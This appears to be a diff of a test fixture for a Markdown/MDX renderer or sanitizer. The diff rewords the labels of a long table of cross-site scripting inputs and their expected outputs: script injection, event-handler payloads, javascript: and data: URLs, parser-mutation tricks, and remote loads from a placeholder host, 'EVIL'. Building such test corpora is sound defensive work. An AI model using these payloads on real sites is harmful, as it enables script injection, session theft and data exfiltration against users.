@@ -39,65 +39,71 @@ function handlers(
 export const elements: readonly Payload[] = [
   ...pages("script", {
     plain: ["<script>{`RUN`}</script>", "<script>RUN</script>"],
-    "in one line": ["text <script>RUN</script> text", "<script>RUN</script>"],
-    "in capitals": ["<SCRIPT>RUN</SCRIPT>", "<SCRIPT>RUN</SCRIPT>"],
+    inline: ["text <script>RUN</script> text", "<script>RUN</script>"],
+    "in uppercase": ["<SCRIPT>RUN</SCRIPT>", "<SCRIPT>RUN</SCRIPT>"],
     "from the web": [
       '<script src="https://EVIL/a.js"></script>',
       '<script src="https://EVIL/a.js"></script>',
     ],
-    "from an address of data": [
+    "from a data URL": [
       '<script src="data:text/javascript,RUN" />',
       '<script src="data:text/javascript,RUN"></script>',
     ],
     module: ['<script type="module">RUN</script>', '<script type="module">RUN</script>'],
-    "import in a module": [
+    "with an import in a module": [
       '<script type="module">{`import "https://EVIL/m.js"`}</script>',
       '<script type="module">import "https://EVIL/m.js"</script>',
     ],
     "in an element": ["<div><p><script>RUN</script></p></div>", "<div><script>RUN</script></div>"],
-    "in a drawing": ["<svg><script>RUN</script></svg>", "<svg><script>RUN</script></svg>"],
-    "in a drawing by address": [
+    "in an SVG image": ["<svg><script>RUN</script></svg>", "<svg><script>RUN</script></svg>"],
+    "in an SVG image by URL": [
       '<svg><script href="https://EVIL/a.js" /></svg>',
       '<svg><script href="https://EVIL/a.js"></script></svg>',
     ],
     "in a component": ['<Card title="a"><script>RUN</script></Card>', "<script>RUN</script>"],
-    "in a title's markup": ["<Card title={<script>RUN</script>}>a</Card>", "<b><script>RUN</script></b>"],
+    "in an element as a title": [
+      "<Card title={<script>RUN</script>}>a</Card>",
+      "<b><script>RUN</script></b>",
+    ],
     "in raw Markdown HTML": ["<div>\n\n<script>\nRUN\n</script>\n\n</div>", "<script>\nRUN\n</script>"],
-    "made by createElement": ["{React.createElement('script', null, 'RUN')}", "<script>RUN</script>"],
-    "by a tag that is a name": ["export const Tag = 'script'\n\n<Tag>RUN</Tag>", "<script>RUN</script>"],
-    "of JSON-LD that is script": [
+    "created by createElement": ["{React.createElement('script', null, 'RUN')}", "<script>RUN</script>"],
+    "as a tag whose name is a variable": [
+      "export const Tag = 'script'\n\n<Tag>RUN</Tag>",
+      "<script>RUN</script>",
+    ],
+    "with the type application/javascript": [
       '<script type="application/javascript" async>RUN</script>',
       '<script type="application/javascript" async>RUN</script>',
     ],
-    "rules for what is to be fetched": [
+    "speculation rules": [
       '<script type="speculationrules">{`{"prefetch":[{"source":"list","urls":["https://EVIL"]}]}`}</script>',
       '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://EVIL"]}]}</script>',
     ],
-    "map of imports": [
+    "an import map": [
       '<script type="importmap">{`{"imports":{"a":"https://EVIL/a.js"}}`}</script>',
       '<script type="importmap">{"imports":{"a":"https://EVIL/a.js"}}</script><script type="module">import "a"</script>',
     ],
   }),
   ...pages("loads", {
-    "picture that fails": ['<img src="x" onError="RUN" />', '<img src="x" onerror="RUN">'],
-    "picture of the web": ['<img src="https://EVIL/p.png" />', '<img src="https://EVIL/p.png">'],
-    "picture of several": [
+    "image with an error handler": ['<img src="x" onError="RUN" />', '<img src="x" onerror="RUN">'],
+    "image from the web": ['<img src="https://EVIL/p.png" />', '<img src="https://EVIL/p.png">'],
+    "image from a source set": [
       '<img srcSet="https://EVIL/p.png 2x" />',
       '<img srcset="https://EVIL/p.png 1x, https://EVIL/q.png 2x">',
     ],
-    "picture of Markdown": ["![a](https://EVIL/p.png)", '<img src="https://EVIL/p.png">'],
-    "picture by reference": ["![a][b]\n\n[b]: https://EVIL/p.png", '<img src="https://EVIL/p.png">'],
-    "picture without scheme": ["![a](//EVIL/p.png)", '<img src="//EVIL/p.png">'],
-    "picture with backslashes": ['<img src="\\\\EVIL/p.png" />', '<img src="/\\EVIL/p.png">'],
-    "picture with a tab in the scheme": [
+    "Markdown image": ["![a](https://EVIL/p.png)", '<img src="https://EVIL/p.png">'],
+    "Markdown image by reference": ["![a][b]\n\n[b]: https://EVIL/p.png", '<img src="https://EVIL/p.png">'],
+    "image without a scheme": ["![a](//EVIL/p.png)", '<img src="//EVIL/p.png">'],
+    "image with backslashes": ['<img src="\\\\EVIL/p.png" />', '<img src="/\\EVIL/p.png">'],
+    "image with a tab in the scheme": [
       '<img src={"ht\\ttps://EVIL/p.png"} />',
       '<img src="ht&#9;tps://EVIL/p.png">',
     ],
-    "picture with a name before the host": [
+    "image with a username in the URL": [
       "![a](https://user:pw@EVIL/p.png)",
       '<img src="https://user:pw@EVIL/p.png">',
     ],
-    "picture of a <picture>": [
+    "image in a picture element": [
       '<picture><source srcSet="https://EVIL/p.webp" /><img src="https://EVIL/p.png" /></picture>',
       '<picture><source srcset="https://EVIL/p.webp"><img src="https://EVIL/p.png"></picture>',
     ],
@@ -119,11 +125,11 @@ export const elements: readonly Payload[] = [
     ],
     audio: ['<audio src="https://EVIL/a.mp3" />', '<audio src="https://EVIL/a.mp3"></audio>'],
     iframe: ['<iframe src="https://EVIL" />', '<iframe src="https://EVIL"></iframe>'],
-    "iframe of a script": [
+    "iframe with a script URL": [
       '<iframe src="javascript:RUN" />',
       '<iframe src="javascript:parent.RUN"></iframe>',
     ],
-    "iframe of data": [
+    "iframe with a data URL": [
       '<iframe src="data:text/html,<script>RUN</script>" />',
       '<iframe src="data:text/html,<img src=https://EVIL/p.png>"></iframe>',
     ],
@@ -131,7 +137,7 @@ export const elements: readonly Payload[] = [
       '<iframe srcDoc="<script>parent.RUN</script>" />',
       '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
     ],
-    "srcdoc in lower case by spread": [
+    "spread srcdoc in lowercase": [
       '<iframe {...{ srcdoc: "<script>parent.RUN</script>" }} />',
       '<iframe srcdoc="<img src=x onerror=parent.RUN>"></iframe>',
     ],
@@ -143,7 +149,7 @@ export const elements: readonly Payload[] = [
       '<object data="https://EVIL/o.html" />',
       '<object data="https://EVIL/o.html" type="text/html"></object>',
     ],
-    "object of data": [
+    "object with a data URL": [
       '<object data="data:text/html,<script>parent.RUN</script>" />',
       '<object type="text/html" data="data:text/html,<img src=https://EVIL/p.png>"></object>',
     ],
@@ -153,7 +159,7 @@ export const elements: readonly Payload[] = [
       '<link rel="stylesheet" href="https://EVIL/a.css" />',
       '<link rel="stylesheet" href="https://EVIL/a.css">',
     ],
-    "style sheet of data": [
+    "style sheet from a data URL": [
       '<link rel="stylesheet" href="data:text/css,@import url(https://EVIL/a.css)" />',
       '<link rel="stylesheet" href="data:text/css,@import url(https://EVIL/a.css)">',
     ],
@@ -183,12 +189,12 @@ export const elements: readonly Payload[] = [
       '<meta httpEquiv="refresh" content="0;url=https://EVIL/refresh" />',
       '<meta http-equiv="refresh" content="0;url=https://EVIL/refresh">',
     ],
-    "meta refresh to a script": ['<meta httpEquiv="refresh" content="0;url=javascript:RUN" />', ""],
-    "meta refresh by the name of HTML": [
+    "meta refresh to a script URL": ['<meta httpEquiv="refresh" content="0;url=javascript:RUN" />', ""],
+    "meta refresh with its HTML attribute name": [
       '<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>" />',
       "",
     ],
-    "policy by meta": [
+    "meta element with a policy": [
       '<meta httpEquiv="Content-Security-Policy" content="default-src *" />\n\n<img src="https://EVIL/p.png" />',
       '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'"><img src="https://EVIL/p.png">',
     ],
@@ -205,7 +211,7 @@ export const elements: readonly Payload[] = [
       '<form action="https://EVIL" method="get"><button type="submit">a</button></form>',
       '<form action="https://EVIL" method="get"><button>a</button></form>',
     ],
-    "form of a script": [
+    "form with a script URL": [
       '<form action="javascript:RUN"><input type="submit" /></form>',
       '<form action="javascript:RUN"><input type="submit"></form>',
     ],
@@ -213,27 +219,27 @@ export const elements: readonly Payload[] = [
       '<form><button formAction="javascript:RUN">a</button></form>',
       '<form><button formaction="javascript:RUN">a</button></form>',
     ],
-    "formaction of the web": [
+    "formaction on the web": [
       '<form><input type="submit" formAction="https://EVIL" /></form>',
       '<form><input type="submit" formaction="https://EVIL"></form>',
     ],
-    "form named from afar": [
+    "button for a form elsewhere": [
       '<form id="far" action="https://EVIL"></form>\n\n<button form="far">a</button>',
       '<form id="far" action="https://EVIL"></form><button form="far">a</button>',
     ],
     isindex: ['<isindex action="javascript:RUN" type="image" />', ""],
     ping: ['<a href="#a" ping="https://EVIL/ping">a</a>', '<a href="#a" ping="https://EVIL/ping">a</a>'],
-    "area of a map": [
+    "area of an image map": [
       '<map name="m"><area href="javascript:RUN" shape="default" /></map>\n\n<img useMap="#m" src="x.png" />',
       '<map name="m"><area href="javascript:RUN" shape="default"></map><img usemap="#m" src="x.png">',
     ],
-    "focus by itself": ['<input autoFocus onFocus="RUN" />', '<input autofocus onfocus="RUN">'],
-    "details that open": [
+    "automatic focus": ['<input autoFocus onFocus="RUN" />', '<input autofocus onfocus="RUN">'],
+    "open details": [
       '<details open onToggle="RUN"><summary>a</summary>b</details>',
       '<details open ontoggle="RUN"><summary>a</summary>b</details>',
     ],
     marquee: ['<marquee onStart="RUN">a</marquee>', '<marquee onstart="RUN">a</marquee>'],
-    "animation that ends": [
+    "animation with an end handler": [
       '<style>{`@keyframes x{from{left:0}to{left:1px}}`}</style>\n\n<div style={{animation: "x 1ms"}} onAnimationEnd="RUN">a</div>',
       '<style>@keyframes xa{from{left:0}to{left:1px}}</style><div style="animation:xa 1ms" onanimationend="RUN">a</div>',
     ],
@@ -261,7 +267,7 @@ export const elements: readonly Payload[] = [
       '<dialog open onclick="RUN">a</dialog>',
     ],
     attribution: ['<img attributionsrc="https://EVIL/at" src="a.png" />', ""],
-    "late loading": [
+    "lazy loading": [
       '<img loading="lazy" src="https://EVIL/lazy.png" />',
       '<img loading="eager" src="https://EVIL/lazy.png">',
     ],
@@ -271,42 +277,42 @@ export const elements: readonly Payload[] = [
       '<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=RUN>" }} />',
       "<img src=x onerror=RUN>",
     ],
-    "dangerouslySetInnerHTML of a component": [
+    "dangerouslySetInnerHTML on a component": [
       '<Card title="a" dangerouslySetInnerHTML={{ __html: "<img src=x onerror=RUN>" }} />',
       "<img src=x onerror=RUN>",
     ],
-    "dangerouslySetInnerHTML by spread": [
+    "spread dangerouslySetInnerHTML": [
       '<p {...{ dangerouslySetInnerHTML: { __html: "<svg onload=RUN>" } }} />',
       "<svg onload=RUN></svg>",
     ],
     innerHTML: ['<div innerHTML="<img src=x onerror=RUN>" />', "<img src=x onerror=RUN>"],
     outerHTML: ['<div outerHTML="<img src=x onerror=RUN>" />', "<img src=x onerror=RUN>"],
-    "comments of HTML": ["<!--><img src=x onerror=RUN>-->", "<!--><img src=x onerror=RUN>-->"],
-    "comments that end early": [
+    "HTML comments": ["<!--><img src=x onerror=RUN>-->", "<!--><img src=x onerror=RUN>-->"],
+    "HTML comments that end early": [
       "<!-- --!><img src=x onerror=RUN> -->",
       "<!-- --!><img src=x onerror=RUN> -->",
     ],
-    "instructions and CDATA": [
+    "processing instructions and CDATA": [
       "<?xml a?><![CDATA[<img src=x onerror=RUN>]]>",
       "<![CDATA[<img src=x onerror=RUN>]]>",
     ],
-    "entities that become a tag": ["&lt;img src=x onerror=RUN&gt;", ""],
+    "entities that form a tag": ["&lt;img src=x onerror=RUN&gt;", ""],
     "entities in a string": ['<div title="&quot;&gt;&lt;img src=x onerror=RUN&gt;">a</div>', ""],
-    "markup that was mended": [
+    "markup that the parser repairs": [
       '<div><a title="</div><img src=x onerror=RUN>">a</a></div>',
       '<math><mi><style><a title="</style><img src=x onerror=RUN>"></style></mi></math>',
     ],
-    "markup within noembed": [
+    "markup in noembed": [
       '<noembed><img title="</noembed><img src=x onerror=RUN>" /></noembed>',
       '<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>',
     ],
-    "markup within xmp": [
+    "markup in xmp": [
       '<xmp><p title="</xmp><svg onload=RUN>" /></xmp>',
       '<xmp><p title="</xmp><svg onload=RUN>"></xmp>',
     ],
     "unclosed tags": ["<img src=x onerror=RUN //", "<img src=x onerror=RUN //><"],
-    "slashes for blanks": ["<svg/onload=RUN>", "<svg/onload=RUN>"],
-    "text behind a key": ['<p key="<img src=x onerror=RUN>" ref="x">a</p>', ""],
+    "slashes instead of spaces": ["<svg/onload=RUN>", "<svg/onload=RUN>"],
+    "markup in a key": ['<p key="<img src=x onerror=RUN>" ref="x">a</p>', ""],
     plaintext: ['<plaintext onclick="RUN" />', ""],
   }),
   ...handlers("html", html, (tag, text) => (inTable.has(tag) ? `<table>${text}</table>` : text)),
